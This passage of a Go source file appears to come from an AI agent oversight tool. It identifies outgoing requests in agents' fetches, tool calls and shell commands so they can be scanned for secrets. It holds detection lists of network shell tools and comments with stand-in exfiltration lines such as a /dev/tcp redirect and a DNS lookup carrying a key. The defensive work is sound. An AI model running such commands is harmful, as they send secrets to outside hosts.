package egress

import (
	"encoding/json"
	"net/url"
	"path/filepath"
	"sort"
	"strings"
	"unicode/utf8"

	"github.com/overseer-dev/overseer/internal/action"
	"github.com/overseer-dev/overseer/internal/guard/netguard"
	"github.com/overseer-dev/overseer/internal/guard/secrets"
	"github.com/overseer-dev/overseer/internal/lazyre"
)

// request is one outgoing request an action makes or asks for.
type request struct {
	// Dest is where it goes: a host name (lower case), or a name for a
	// destination without one ("s3://bucket", "mcp server github").
	Dest string
	// By names what sends it ("WebFetch", "curl", "git push").
	By string
	// Parts are what it carries, named for the findings.
	Parts []secrets.Part
	// Files are the files whose content it sends (read by Check).
	Files []sentFile
	// Scripts are the texts of the scripts an interpreter runs (their
	// variables are judged like the command line's).
	Scripts []string
	// Configs are the config files curl reads (-K files first, then the
	// default .curlrc); ExplicitConfigs counts the -K ones, whose text is
	// scanned as a sent file already.
	Configs         []string
	ExplicitConfigs int
}

// maxScript bounds the script read for an interpreter.
const maxScript = 256 << 10

// scriptOf reads the script an interpreter runs (python x.py, node
// x.js, deno run x.ts): the first operand after the options, when it is a
// regular file of at most maxScript bytes. Inline code (-c, -e) has no
// script.
func scriptOf(args []string, cwd string) (string, string) {
	for i := 0; i < len(args); i++ {
		x := args[i]
		switch {
		case x == "-c" || x == "-e" || x == "-E" || x == "-r" || x == "-m" || x == "--eval" || x == "-p" ||
			x == "--print" || x == "eval" || x == "-Command" || x == "-command":
			return "", "" // inline code or a module
		case x == "run" && i == 0:
			continue // deno run, bun run
		case strings.HasPrefix(x, "-"):
			continue
		}
		p := x
		if !filepath.IsAbs(p) {
			if cwd == "" || !filepath.IsAbs(cwd) {
				return "", ""
			}
			p = filepath.Join(cwd, p)
		}
		b, err := readCapped(p, maxScript)
		if err != nil || !utf8.Valid(b) {
			return "", ""
		}
		return x, string(b)
	}
	return "", ""
}

// requests returns the outgoing requests of a, or nil when it sends
// nothing. The shell guard must have run (a.Facts.Commands).
func requests(a *action.Action) []request {
	kind := a.Kind
	if kind == "" {
		kind = action.InferKind(a.Tool)
	}
	if webSearchTools[a.Tool] {
		// The query is sent to the model provider's search engine (and
		// from there to the sites it searches).
		var parts []secrets.Part
		for _, k := range sortedKeys(a.Args) {
			parts = append(parts, valueParts(k, a.Args[k])...)
		}
		return []request{{Dest: "web search", By: a.Tool, Parts: parts}}
	}
	switch kind {
	case action.KindNetFetch:
		if rs := promptFetches(a); rs != nil {
			return rs
		}
		return []request{fetchRequest(a)}
	case action.KindShell:
		return shellRequests(a)
	case action.KindFileRead, action.KindFileWrite, action.KindFileEdit, action.KindFileDelete, action.KindPrompt, action.KindSQL:
		return nil
	}
	if commandText(a.Args) != "" && len(a.Facts.Commands) > 0 {
		return shellRequests(a)
	}
	return toolRequests(a, kind)
}

// commandText is a shell action's command line: args.command or
// args.cmd, a string or a list of words (Codex's shell tool: ["bash",
// "-lc", "…"]), joined with spaces.
func commandText(args map[string]any) string {
	for _, k := range []string{"command", "cmd"} {
		switch v := args[k].(type) {
		case string:
			return v
		case []string:
			return strings.Join(v, " ")
		case []any:
			words := make([]string, 0, len(v))
			for _, e := range v {
				if s, ok := e.(string); ok {
					words = append(words, s)
				}
			}
			return strings.Join(words, " ")
		}
	}
	return ""
}

// webSearchTools are the agents' web search tools: the query leaves the
// machine.
var webSearchTools = map[string]bool{"WebSearch": true, "web_search": true, "google_web_search": true}

// promptFetches are the requests of a fetch tool that takes its URLs in
// its prompt (Gemini CLI's web_fetch: "Summarize https://…"), when it has
// no URL argument: each URL of the prompt is fetched.
func promptFetches(a *action.Action) []request {
	if u, _ := a.StringArg("url", "uri"); u != "" {
		return nil
	}
	p, _ := a.Args["prompt"].(string)
	var out []request
	// The URLs the net guard judges (it puts a prompt with too many to a
	// person): from wherever http(s):// begins, as the agent reads them.
	urls, _ := netguard.PromptURLs(p)
	for _, u := range urls {
		if h := hostOf(u); h != "" {
			out = append(out, request{Dest: h, By: a.Tool, Parts: urlParts(u)})
		}
	}
	return out
}

// fetchRequest is a web fetch: its URL, headers and body. The prompt of
// Claude Code's WebFetch is given to a local model, not sent, and is left
// out.
func fetchRequest(a *action.Action) request {
	raw, _ := a.StringArg("url", "uri")
	r := request{Dest: hostOf(raw), By: a.Tool}
	r.Parts = append(r.Parts, urlParts(raw)...)
	keys := sortedKeys(a.Args)
	for _, k := range keys {
		switch strings.ToLower(k) {
		case "url", "uri", "prompt":
			continue
		case "headers", "header":
			r.Parts = append(r.Parts, headerParts(a.Args[k])...)
			continue
		}
		r.Parts = append(r.Parts, valueParts(k, a.Args[k])...)
	}
	return r
}

// toolRequests are MCP (and other) tool calls: every string argument is
// carried; the destinations are the hosts of URL arguments, or the MCP
// server itself.
func toolRequests(a *action.Action, kind action.Kind) []request {
	var parts []secrets.Part
	var dests []string
	for _, k := range sortedKeys(a.Args) {
		for _, p := range valueParts(k, a.Args[k]) {
			parts = append(parts, p)
			if h := hostOf(strings.TrimSpace(p.Text)); h != "" && strings.Contains(p.Text, "://") {
				dests = appendNew(dests, h)
				parts = append(parts, urlParts(strings.TrimSpace(p.Text))...)
			}
		}
	}
	if len(dests) == 0 {
		if kind != action.KindMCP {
			return nil // not a request: a tool of unknown kind without a URL
		}
		dests = []string{"mcp server " + mcpServer(a.Tool)}
	}
	out := make([]request, 0, len(dests))
	for i, d := range dests {
		r := request{Dest: d, By: a.Tool}
		if i == 0 {
			r.Parts = parts // scanned once: the findings name every destination
			r.Files = attachedFiles(a.Args)
		}
		out = append(out, r)
	}
	return out
}

// attachKey names the arguments of a tool that carry files to send
// (an e-mail's attachments, an upload).
var attachKey = lazyre.New(`(?i)attach|upload|^files?$|^file_?paths?$`)

// attachedFiles are the files a tool call attaches or uploads: absolute or
// ~/ paths under an argument named for it. The tool's server reads them,
// so no other guard sees their content: a secret file among them is
// scanned and named (nested).
func attachedFiles(args map[string]any) []sentFile {
	var out []sentFile
	for _, k := range sortedKeys(args) {
		if !attachKey.MatchString(k) {
			continue
		}
		walkStrings(args[k], func(s string) {
			if (strings.HasPrefix(s, "/") || strings.HasPrefix(s, "~/")) && !strings.ContainsAny(s, "\n\x00") && len(s) < 4096 {
				out = append(out, sentFile{path: s, how: "attached (" + k + ")", nested: true})
			}
		})
	}
	return out
}

func mcpServer(tool string) string {
	f := strings.Split(tool, "__")
	if len(f) >= 3 {
		return f[1]
	}
	return tool
}

// urlParts are a URL, its decoded query values (each a part, so a value
// split across parameters is joined) and its host's labels joined.
func urlParts(raw string) []secrets.Part {
	if raw == "" {
		return nil
	}
	parts := []secrets.Part{{Name: "url", Text: raw}}
	u, err := url.Parse(raw)
	if err != nil {
		return parts
	}
	if u.Path != "" && u.Path != "/" {
		for _, seg := range strings.Split(u.Path, "/") {
			if len(seg) >= 4 {
				parts = append(parts, secrets.Part{Name: "url path", Text: seg})
			}
		}
	}
	q, _ := url.ParseQuery(u.RawQuery)
	for _, k := range sortedKeys(q) {
		for _, v := range q[k] {
			parts = append(parts, secrets.Part{Name: "query " + k, Text: v})
		}
	}
	if j := secrets.JoinLabels(u.Hostname()); j != "" {
		parts = append(parts, secrets.Part{Name: "dns labels of " + u.Hostname(), Text: j})
	}
	return parts
}

// headerParts turns a headers argument (an object, a list of "K: V"
// strings, or one string) into parts.
func headerParts(v any) []secrets.Part {
	var out []secrets.Part
	switch h := v.(type) {
	case map[string]any:
		for _, k := range sortedKeys(h) {
			out = append(out, secrets.Part{Name: "header " + k, Text: k + ": " + stringOf(h[k])},
				secrets.Part{Name: "header " + k, Text: stringOf(h[k])})
		}
	case []any:
		for _, e := range h {
			s := stringOf(e)
			name, _, _ := strings.Cut(s, ":")
			out = append(out, secrets.Part{Name: "header " + strings.TrimSpace(name), Text: s})
		}
	default:
		out = append(out, secrets.Part{Name: "headers", Text: stringOf(v)})
	}
	return out
}

// valueParts turns an argument into parts: strings as they are, objects
// and lists both whole (JSON) and value by value.
func valueParts(name string, v any) []secrets.Part {
	switch x := v.(type) {
	case string:
		return []secrets.Part{{Name: "argument " + name, Text: x}}
	case map[string]any, []any:
		b, _ := json.Marshal(x)
		out := []secrets.Part{{Name: "argument " + name, Text: string(b)}}
		walkStrings(x, func(s string) {
			if len(s) <= 256 {
				out = append(out, secrets.Part{Name: "argument " + name, Text: s})
			}
		})
		return out
	}
	return nil
}

func walkStrings(v any, fn func(string)) {
	switch x := v.(type) {
	case string:
		fn(x)
	case map[string]any:
		for _, k := range sortedKeys(x) {
			walkStrings(x[k], fn)
		}
	case []any:
		for _, e := range x {
			walkStrings(e, fn)
		}
	}
}

func stringOf(v any) string {
	if s, ok := v.(string); ok {
		return s
	}
	b, _ := json.Marshal(v)
	return string(b)
}

func sortedKeys[V any](m map[string]V) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

func appendNew(xs []string, x string) []string {
	for _, y := range xs {
		if y == x {
			return xs
		}
	}
	return append(xs, x)
}

// hostOf returns the lower-case host of a URL ("" when there is none).
func hostOf(raw string) string {
	if !strings.Contains(raw, "://") {
		return ""
	}
	u, err := url.Parse(raw)
	if err != nil {
		// Fall back to the text between :// and the next / ? # @ :.
		rest := raw[strings.Index(raw, "://")+3:]
		if at := strings.LastIndexByte(rest, '@'); at >= 0 {
			rest = rest[at+1:]
		}
		end := strings.IndexAny(rest, "/?#: \t\"'")
		if end >= 0 {
			rest = rest[:end]
		}
		return strings.ToLower(strings.TrimSuffix(rest, "."))
	}
	switch strings.ToLower(u.Scheme) {
	case "s3", "gs", "az", "r2":
		return strings.ToLower(u.Scheme) + "://" + strings.ToLower(u.Host)
	}
	return strings.ToLower(strings.TrimSuffix(u.Hostname(), "."))
}

// headerArg matches a "Name: value" argument.
var headerArg = lazyre.New(`^[A-Za-z0-9-]{1,64}:\s*\S`)

// senders are the programs that send data, and how to find where to.
var senders = map[string]func(args []string, cwd string) []string{
	"curl": urlDests, "wget": urlDests, "http": httpieDests, "https": httpieDests, "xh": httpieDests,
	"curlie": urlDests, "aria2c": urlDests, "lwp-request": urlDests, "GET": urlDests, "POST": urlDests,
	"nc": hostArgDests, "ncat": hostArgDests, "netcat": hostArgDests, "telnet": hostArgDests,
	"socat": socatDests, "ssh": sshDests, "scp": remoteDests, "sftp": sshDests, "rsync": remoteDests,
	"ftp": hostArgDests, "tftp": hostArgDests, "lftp": hostArgDests, "openssl": opensslDests,
	"aws": cloudDests, "gsutil": cloudDests, "gcloud": cloudDests, "az": cloudDests, "azcopy": cloudDests,
	"rclone": rcloneDests, "mail": mailDests, "sendmail": mailDests, "mutt": mailDests, "mailx": mailDests,
	"git": gitDests, "dig": dnsDests, "nslookup": dnsDests, "host": dnsDests, "ping": dnsDests,
	"drill": dnsDests, "kdig": dnsDests, "delv": dnsDests, "getent": dnsDests, "resolvectl": dnsDests,
	// Other URL clients: browsers in a terminal, WebSocket, gRPC and load
	// tools.
	"lynx": urlDests, "w3m": urlDests, "links": urlDests, "elinks": urlDests, "websocat": urlDests,
	"wscat": urlDests, "grpcurl": urlDests, "ab": urlDests, "hey": urlDests, "wrk": urlDests, "siege": urlDests,
	"gh": ghDests,
	// Programs that fetch from a URL they are given: the URL itself (its
	// path, query, user) is what they send. A browser opened on a URL
	// sends it too.
	"npm": urlArgDests, "pnpm": urlArgDests, "yarn": urlArgDests, "bun": urlArgDests, "pip": urlArgDests,
	"pip3": urlArgDests, "pipx": urlArgDests, "uv": urlArgDests, "gem": urlArgDests, "cargo": urlArgDests,
	"helm": urlArgDests, "kubectl": urlArgDests, "docker": imageDests, "podman": imageDests, "nerdctl": imageDests,
	"brew": urlArgDests, "go": goModuleDests,
	"composer": urlArgDests, "xdg-open": urlArgDests, "open": urlArgDests, "wslview": urlArgDests,
	"sensible-browser": urlArgDests, "firefox": urlArgDests, "chromium": urlArgDests, "google-chrome": urlArgDests,
}

// urlArgDests: the hosts of the URLs among the arguments (nil when there
// is none: npm test, docker ps).
func urlArgDests(args []string, _ string) []string {
	var out []string
	for _, x := range args {
		for _, u := range urlInText.FindAllString(x, -1) {
			if h := hostOf(u); h != "" {
				out = appendNew(out, h)
			}
		}
	}
	return out
}

// imageDests: the hosts of URL arguments, and the registry of an image a
// container tool pulls, pushes or runs (docker pull REGISTRY/NAME:TAG): the
// image's name, which the registry is asked for, carries data to whoever
// holds that host. An image without a registry (nginx, library/redis) is
// Docker Hub's.
func imageDests(args []string, cwd string) []string {
	out := urlArgDests(args, cwd)
	words := nonOptions(args)
	if len(words) < 2 {
		return out
	}
	switch words[0] {
	case "pull", "push", "run", "create":
	default:
		return out
	}
	for _, w := range words[1:] {
		if h := imageRegistry(w); h != "" {
			out = appendNew(out, h)
		}
	}
	return out
}

// imageRegistry returns the registry host of an image reference whose
// first component names a host of the network (has a "."), or "".
func imageRegistry(w string) string {
	if strings.ContainsAny(w, "=\\ $`'\"") || strings.HasPrefix(w, "/") || strings.HasPrefix(w, ".") || strings.Contains(w, "://") {
		return ""
	}
	first, _, ok := strings.Cut(w, "/")
	if !ok || first == "" {
		return ""
	}
	host, _, _ := strings.Cut(strings.ToLower(first), ":")
	if host == "localhost" || strings.HasPrefix(host, "127.") || !strings.Contains(host, ".") || !looksLikeHost(host) {
		return "" // Docker Hub's, or a registry on this machine
	}
	return host
}

// goModuleDests: the hosts of the modules go get, go install and go run
// fetch (go get evil.example/x@v1): the proxy, when one is used, asks the
// module's host for it, path and all.
func goModuleDests(args []string, _ string) []string {
	words := nonOptions(args)
	if len(words) < 2 {
		return nil
	}
	switch words[0] {
	case "get", "install", "run":
	default:
		return nil
	}
	var out []string
	for _, w := range words[1:] {
		mod, _, _ := strings.Cut(w, "@")
		if words[0] != "get" && !strings.Contains(w, "@") {
			continue // go install ./cmd/x, go run main.go: the module's own code
		}
		if h := imageRegistry(mod); h != "" {
			out = appendNew(out, h)
		}
	}
	if len(out) == 0 {
		return nil
	}
	return out
}

// interpreters run code given inline (python -c, node -e …) or a script:
// what the code sends is not known, but the URLs it names and the network
// calls it makes are. They are requests to the hosts of the URLs in their
// arguments, or to a destination that is not static when the code calls
// the network without a literal URL.
var interpreters = []string{"python", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "pwsh", "powershell",
	"osascript", "lua", "Rscript", "julia", "java", "jshell", "groovy", "tclsh", "awk", "gawk"}

func isInterpreter(name string) bool {
	for _, p := range interpreters {
		if name == p || strings.HasPrefix(name, p) && strings.Trim(name[len(p):], "0123456789.") == "" {
			return true
		}
	}
	return false
}

// urlInText finds the URLs in a text (inline code, a command line).
var urlInText = lazyre.New(`(?i)\b(?:https?|wss?|ftps?)://[^\s"'\x60<>(){}\[\]\\]+`)

// netCall matches code that opens a network connection without a literal
// URL: sockets, HTTP clients, DNS lookups.
var netCall = lazyre.New(`(?i)urlopen|urllib|requests\.(?:get|post|put|patch)|http\.client|httpx|aiohttp|socket|getaddrinfo|gethostbyname|\bfetch\s*\(|XMLHttpRequest|https?\.(?:get|request)|\bnet\.(?:connect|createConnection)|dns\.(?:lookup|resolve)|LWP|HTTP::Tiny|IO::Socket|Net::HTTP|open-uri|URI\.open|TCPSocket|curl_init|file_get_contents\s*\(\s*['"]https?|fsockopen|stream_socket_client|Invoke-WebRequest|Invoke-RestMethod|iwr\b|irm\b|WebClient|HttpClient|/inet/tcp|do shell script`)

func interpreterDests(args []string, _ string) []string {
	var out []string
	for _, x := range args {
		for _, u := range urlInText.FindAllString(x, -1) {
			if h := hostOf(u); h != "" {
				out = appendNew(out, h)
			}
		}
	}
	if out != nil {
		return out
	}
	for _, x := range args {
		if netCall.MatchString(x) {
			return []string{} // a destination that is not static
		}
	}
	return nil
}

// ghDests: gh commands that send data to GitHub (gists, API writes,
// issues and pull requests, release uploads, secrets).
func ghDests(args []string, _ string) []string {
	w := nonOptions(args)
	if len(w) < 2 && !(len(w) == 1 && w[0] == "api") {
		return nil
	}
	switch w[0] {
	case "gist":
		if w[1] == "create" || w[1] == "edit" {
			return []string{"gist.github.com"}
		}
	case "api":
		for _, a := range args {
			if a == "-f" || a == "-F" || a == "--field" || a == "--raw-field" || a == "--input" ||
				strings.HasPrefix(a, "--field=") || strings.HasPrefix(a, "--raw-field=") || strings.HasPrefix(a, "--input=") {
				return []string{"api.github.com"}
			}
		}
	case "issue", "pr":
		if w[1] == "create" || w[1] == "comment" || w[1] == "edit" {
			return []string{"github.com"}
		}
	case "release":
		if w[1] == "create" || w[1] == "upload" {
			return []string{"github.com"}
		}
	case "secret", "variable":
		if w[1] == "set" {
			return []string{"github.com"}
		}
	}
	return nil
}

// shellRequests are the shell command's sending commands. Each carries the
// whole command line (a literal secret anywhere in it, a here-document, a
// variable assigned before) and its own arguments one by one.
func shellRequests(a *action.Action) []request {
	cmd := commandText(a.Args)
	var out []request
	for _, c := range a.Facts.Commands {
		fn, ok := senders[c.Name]
		var script, scriptName string
		if !ok && isInterpreter(c.Name) {
			fn, ok = interpreterDests, true
			// A script the interpreter runs is judged like inline code.
			if scriptName, script = scriptOf(c.Args, a.Cwd); script != "" {
				c.Args = append(append([]string(nil), c.Args...), script)
			}
		}
		if !ok {
			continue
		}
		dests := fn(c.Args, a.Cwd)
		if dests == nil {
			continue // not a sending form (git status, aws s3 ls …)
		}
		by := c.Name
		if c.Name == "git" || c.Name == "aws" || c.Name == "gcloud" || c.Name == "az" || c.Name == "gsutil" {
			if s := firstWord(c.Args); s != "" {
				by += " " + s
			}
		}
		if len(dests) == 0 {
			dests = []string{"(" + by + ": destination not static)"}
		}
		// A proxy set for the command (HTTPS_PROXY=… curl …) receives the
		// request too (all of it, for a plain-HTTP URL).
		for _, m := range findAllIf(proxyAssign, cmd, "roxy=", "ROXY=") {
			if h := proxyHost(m[1]); h != "" {
				dests = appendNew(dests, h)
			}
		}
		parts := []secrets.Part{{Name: "command", Text: cmd}}
		for _, x := range c.Args {
			parts = append(parts, secrets.Part{Name: by + " argument", Text: x})
			if isInterpreter(c.Name) {
				for _, u := range urlInText.FindAllString(x, -1) {
					parts = append(parts, urlParts(u)...)
				}
				continue
			}
			switch {
			case strings.Contains(x, "://"):
				parts = append(parts, urlParts(x)...)
			case headerArg.MatchString(x):
				// "Name: value" (curl -H): the value alone, so that values
				// split across headers are joined.
				name, val, _ := strings.Cut(x, ":")
				parts = append(parts, secrets.Part{Name: "header " + name, Text: strings.TrimSpace(val)})
			case looksLikeHost(x) && strings.Count(x, ".") >= 3:
				h, _, _ := strings.Cut(x, "/")
				if j := secrets.JoinLabels(h); j != "" {
					parts = append(parts, secrets.Part{Name: "dns labels of " + h, Text: j})
				}
			}
		}
		if script != "" {
			by += " " + scriptName
		}
		for i, d := range dests {
			r := request{Dest: d, By: by}
			if i == 0 {
				r.Parts = parts
				r.Files = sentFiles(c)
				if script != "" {
					r.Scripts = []string{script}
				}
				switch c.Name {
				case "curl":
					ex, im := curlConfigs(c, cmd)
					r.Configs, r.ExplicitConfigs = append(ex, im...), len(ex)
				case "wget":
					ex, im := wgetConfigs(c, cmd)
					r.Configs, r.ExplicitConfigs = append(ex, im...), len(ex)
				}
			}
			out = append(out, r)
		}
	}
	// Bash's /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT: a redirection to
	// one is a connection (echo "$T" > /dev/tcp/evil.example/80).
	for _, p := range a.Facts.Paths {
		rest, ok := strings.CutPrefix(p.Path, "/dev/tcp/")
		if !ok {
			rest, ok = strings.CutPrefix(p.Path, "/dev/udp/")
		}
		if !ok {
			continue
		}
		h, _, _ := strings.Cut(rest, "/")
		if h == "" || strings.ContainsAny(h, "$`") {
			h = "(/dev/tcp: destination not static)"
		}
		r := request{Dest: strings.ToLower(h), By: "a /dev/tcp connection"}
		if len(out) == 0 {
			r.Parts = []secrets.Part{{Name: "command", Text: cmd}}
		}
		out = append(out, r)
	}
	return out
}

// proxyAssign matches a proxy variable assigned in a command line.
var proxyAssign = lazyre.New(`(?i)\b(?:https?|all|ftp|socks)_proxy=["']?([^\s"';&|]+)`)

// findAllIf runs re on text only when text holds one of the literals
// every match has (the expressions are slow on long command lines).
func findAllIf(re *lazyre.Regexp, text string, lits ...string) [][]string {
	if !hasAny(text, lits) {
		return nil
	}
	return re.FindAllStringSubmatch(text, -1)
}

// proxyHost is the host of a proxy setting (a URL or host:port).
func proxyHost(v string) string {
	if !strings.Contains(v, "://") {
		v = "http://" + v
	}
	return hostOf(v)
}

func firstWord(args []string) string {
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			return a
		}
	}
	return ""
}

// urlDests: the hosts of URL arguments, and of bare host arguments
// (curl example.com/x).
func urlDests(args []string, _ string) []string {
	if len(nonOptions(args)) == 0 {
		return nil // curl --version, wget --help
	}
	out := []string{}
	for _, x := range args {
		if strings.Contains(x, "://") {
			if h := hostOf(x); h != "" {
				out = appendNew(out, h)
			}
			continue
		}
		if !strings.HasPrefix(x, "-") && looksLikeHost(x) {
			h, _, _ := strings.Cut(x, "/")
			h, _, _ = strings.Cut(h, ":")
			out = appendNew(out, strings.ToLower(h))
		}
	}
	return out
}

// httpieDests: httpie and xh take "example.com/path" and ":port/path".
func httpieDests(args []string, cwd string) []string {
	return urlDests(args, cwd)
}

// looksLikeHost reports a word that names a host: dotted labels of letters,
// digits and dashes, a known top-level domain shape, no spaces.
func looksLikeHost(x string) bool {
	h, _, _ := strings.Cut(x, "/")
	h, _, _ = strings.Cut(h, ":")
	if strings.Count(h, ".") < 1 || strings.ContainsAny(h, " =@\"'{}()[],;$*") || len(h) > 253 {
		return false
	}
	labels := strings.Split(h, ".")
	tld := labels[len(labels)-1]
	if len(tld) < 2 || strings.Trim(tld, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") != "" {
		return isIPv4(h)
	}
	for _, l := range labels {
		if l == "" {
			return false
		}
	}
	// A file name (report.json, main.go) is not a host.
	switch strings.ToLower(tld) {
	case "json", "txt", "go", "py", "js", "ts", "md", "yaml", "yml", "toml", "sh", "log", "csv", "html", "xml",
		"tar", "gz", "zip", "tgz", "pem", "key", "env", "conf", "cfg", "ini", "lock", "sum", "mod", "rs", "c", "h",
		"cpp", "java", "rb", "php", "sql", "db", "png", "jpg", "gif", "svg", "pdf", "bin", "exe", "out", "dat", "bak":
		return false
	}
	return true
}

func hostChar(r rune) bool {
	return r == '.' || r == '-' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9'
}

func isIPv4(h string) bool {
	parts := strings.Split(h, ".")
	if len(parts) != 4 {
		return false
	}
	for _, p := range parts {
		if p == "" || len(p) > 3 || strings.Trim(p, "0123456789") != "" {
			return false
		}
	}
	return true
}

// hostArgDests: nc host port, telnet host, ftp host.
func hostArgDests(args []string, _ string) []string {
	out := []string{}
	skip := false
	for _, x := range args {
		if skip {
			skip = false
			continue
		}
		if strings.HasPrefix(x, "-") {
			// Options that take a value (nc -p port, -s source, -w secs …).
			if len(x) == 2 && strings.ContainsRune("psiwqOPTXxeco", rune(x[1])) {
				skip = true
			}
			continue
		}
		if strings.Contains(x, "://") {
			return appendNew(out, hostOf(x))
		}
		if strings.Trim(x, "0123456789") == "" {
			continue // a port
		}
		h := x
		if at := strings.LastIndexByte(h, '@'); at >= 0 {
			h = h[at+1:]
		}
		return appendNew(out, strings.ToLower(h))
	}
	return out
}

// socatDests: TCP:host:port, OPENSSL:host:port, UDP4-SENDTO:host:port …
func socatDests(args []string, _ string) []string {
	out := []string{}
	for _, x := range args {
		f := strings.Split(x, ":")
		if len(f) >= 3 {
			t := strings.ToUpper(f[0])
			if strings.HasPrefix(t, "TCP") || strings.HasPrefix(t, "UDP") || strings.HasPrefix(t, "OPENSSL") || strings.HasPrefix(t, "SSL") {
				out = appendNew(out, strings.ToLower(f[1]))
			}
		}
	}
	return out
}

// sshDests: the first operand, [user@]host.
func sshDests(args []string, _ string) []string {
	skip := false
	for _, x := range args {
		if skip {
			skip = false
			continue
		}
		if strings.HasPrefix(x, "-") {
			if len(x) == 2 && strings.ContainsRune("bcDEeFIiJLlmOoPpQRSWw", rune(x[1])) {
				skip = true
			}
			continue
		}
		h := x
		if at := strings.LastIndexByte(h, '@'); at >= 0 {
			h = h[at+1:]
		}
		h, _, _ = strings.Cut(h, ":")
		return []string{strings.ToLower(h)}
	}
	return []string{}
}

// remoteDests: scp and rsync operands of the form [user@]host:path (a
// local copy sends nothing).
func remoteDests(args []string, _ string) []string {
	var out []string
	for _, x := range args {
		if strings.HasPrefix(x, "-") {
			continue
		}
		if strings.Contains(x, "://") {
			out = appendNew(out, hostOf(x))
			continue
		}
		i := strings.IndexByte(x, ':')
		if i <= 0 || strings.HasPrefix(x, "/") || strings.HasPrefix(x, ".") {
			continue
		}
		h := x[:i]
		if strings.Contains(h, "/") {
			continue
		}
		if at := strings.LastIndexByte(h, '@'); at >= 0 {
			h = h[at+1:]
		}
		out = appendNew(out, strings.ToLower(h))
	}
	return out // nil for a local copy
}

// opensslDests: openssl s_client -connect host:port.
func opensslDests(args []string, _ string) []string {
	for i, x := range args {
		if (x == "-connect" || x == "-host") && i+1 < len(args) {
			h, _, _ := strings.Cut(args[i+1], ":")
			return []string{strings.ToLower(h)}
		}
	}
	return nil
}

// cloudDests: cloud CLIs copying out — aws s3 cp|sync|mv and s3api
// put-object, gsutil and gcloud storage cp|rsync|mv, az storage … upload
// or copy, azcopy copy|sync. The destination is the bucket or account.
func cloudDests(args []string, _ string) []string {
	words := nonOptions(args)
	if len(words) < 2 {
		return nil
	}
	join := strings.Join(words, " ")
	var remote []string
	for _, w := range words {
		if h := hostOf(w); h != "" && strings.Contains(w, "://") {
			remote = append(remote, h)
		}
	}
	last := words[len(words)-1]
	switch {
	case strings.HasPrefix(join, "s3 cp") || strings.HasPrefix(join, "s3 sync") || strings.HasPrefix(join, "s3 mv"),
		strings.HasPrefix(join, "cp") || strings.HasPrefix(join, "rsync") || strings.HasPrefix(join, "mv"),
		strings.HasPrefix(join, "storage cp") || strings.HasPrefix(join, "storage rsync") || strings.HasPrefix(join, "storage mv"),
		strings.HasPrefix(join, "alpha storage cp"), strings.HasPrefix(join, "copy") || strings.HasPrefix(join, "sync"):
		// Copying out when the last operand is remote.
		if h := hostOf(last); h != "" && strings.Contains(last, "://") {
			return []string{h}
		}
		return nil
	case strings.HasPrefix(join, "s3api put-object") || strings.HasPrefix(join, "s3api upload-part"):
		for i, a := range args {
			if a == "--bucket" && i+1 < len(args) {
				return []string{"s3://" + strings.ToLower(args[i+1])}
			}
		}
		return []string{"s3"}
	case strings.HasPrefix(join, "storage blob upload") || strings.HasPrefix(join, "storage blob upload-batch") ||
		strings.HasPrefix(join, "storage file upload") || strings.HasPrefix(join, "storage copy") ||
		strings.HasPrefix(join, "storage blob copy"):
		for i, a := range args {
			if (a == "--account-name" || a == "--destination") && i+1 < len(args) {
				return []string{"azure storage " + strings.ToLower(args[i+1])}
			}
		}
		if len(remote) > 0 {
			return remote
		}
		return []string{"azure storage"}
	}
	return nil
}

func nonOptions(args []string) []string {
	var out []string
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			out = append(out, a)
		}
	}
	return out
}

// rcloneDests: rclone copy|sync|move|copyto SRC REMOTE:path.
func rcloneDests(args []string, _ string) []string {
	w := nonOptions(args)
	if len(w) < 3 {
		return nil
	}
	switch w[0] {
	case "copy", "sync", "move", "copyto", "moveto", "rcat":
	default:
		return nil
	}
	last := w[len(w)-1]
	if i := strings.IndexByte(last, ':'); i > 0 && !strings.HasPrefix(last, "/") {
		return []string{"rclone remote " + last[:i]}
	}
	return nil
}

// mailDests: the recipients.
func mailDests(args []string, _ string) []string {
	out := []string{}
	for _, x := range args {
		if strings.Contains(x, "@") && !strings.HasPrefix(x, "-") {
			_, dom, _ := strings.Cut(x, "@")
			out = appendNew(out, strings.ToLower(dom))
		}
	}
	return out
}

// dnsDests: a lookup sends its name to the name's servers: the data is in
// the labels. A name with a label below its domain (x.evil.example) reaches
// the domain's own servers, whoever holds it, and that one label carries up
// to 63 bytes: dig $KEY.evil.example, or a value spelled by hand after a
// secret read (before, names of fewer than four labels were not judged as
// sends at all). A bare domain (evil.example) reaches its top-level
// domain's servers only.
func dnsDests(args []string, _ string) []string {
	out := []string{}
	for _, x := range args {
		if strings.HasPrefix(x, "-") || strings.HasPrefix(x, "@") || strings.HasPrefix(x, "+") {
			continue
		}
		if looksLikeHost(x) && !isIPv4(x) && strings.Count(strings.TrimSuffix(x, "."), ".") >= 2 {
			labels := strings.Split(strings.TrimSuffix(strings.ToLower(x), "."), ".")
			out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
			continue
		}
		// A name built by the shell ($T.evil.example, $(…).evil.example):
		// its labels are data the guard cannot see; the domain is the
		// literal tail.
		if strings.ContainsAny(x, "$`") {
			tail := strings.Trim(x, `"'`)
			if i := strings.LastIndexFunc(tail, func(r rune) bool { return !hostChar(r) }); i >= 0 {
				tail = tail[i+1:]
			}
			tail = strings.Trim(strings.ToLower(tail), ".")
			if labels := strings.Split(tail, "."); len(labels) >= 2 && looksLikeHost(tail) {
				out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
			}
		}
	}
	if len(out) == 0 {
		return nil // an ordinary lookup: not judged as a send
	}
	return out
}

// gitDests: git push to a remote — its URL's host, read from .git/config
// for a named remote.
func gitDests(args []string, cwd string) []string {
	w := nonOptions(args)
	if len(w) == 0 {
		return nil
	}
	switch w[0] {
	case "push":
	case "clone", "fetch", "pull", "ls-remote", "submodule", "archive", "remote":
		// A URL given to git is sent (its path and user too); a named
		// remote's URL is the repository's own configuration.
		var out []string
		for _, x := range args {
			if strings.Contains(x, "://") && !strings.HasPrefix(x, "file://") {
				out = appendNew(out, remoteHost(x))
			}
		}
		return out
	default:
		return nil
	}
	remote := "origin"
